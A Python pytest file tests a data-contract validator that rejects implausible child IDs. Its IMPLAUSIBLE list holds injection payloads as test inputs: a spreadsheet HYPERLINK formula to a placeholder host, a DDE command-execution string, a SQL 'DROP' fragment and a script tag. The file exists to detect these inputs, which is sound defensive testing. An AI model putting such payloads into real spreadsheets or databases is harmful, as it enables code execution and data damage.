"""A child ID holding characters no case system uses is an error finding: a formula never becomes a
child (rule `plausible_id` in data_contracts/_shared.yml)."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.contracts.test_rules import _row, _validate

pytestmark = pytest.mark.xdist_group("gx")

IMPLAUSIBLE = [
    '=HYPERLINK("http://x.example"&A1;"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(A1)",
    "+1001",
    "1001;DROP",
    "10'01",
    "<script>",
]
PLAUSIBLE = ["1001", "AB-12/3.4_5 6", "-1001", "CH.00042"]


@pytest.mark.parametrize("child_id", IMPLAUSIBLE)
def test_an_implausible_id_is_an_error_finding(tmp_path: Path, gx_runner, child_id: str) -> None:  # type: ignore[no-untyped-def]
    findings = _validate(
        tmp_path, gx_runner, {"contacts": [_row("contacts"), _row("contacts", child_id=child_id)]}
    )
    assert [(f.rule, f.severity, f.row, f.column, f.value) for f in findings] == [
        ("contacts.child_id.plausible_id", "error", 3, "Child Unique ID", child_id)
    ]
    assert "only letters, digits, spaces and - _ / ." in findings[0].message


@pytest.mark.parametrize("child_id", PLAUSIBLE)
def test_a_plausible_id_passes(tmp_path: Path, gx_runner, child_id: str) -> None:  # type: ignore[no-untyped-def]
    findings = _validate(tmp_path, gx_runner, {"contacts": [_row("contacts", child_id=child_id)]})
    assert findings == []
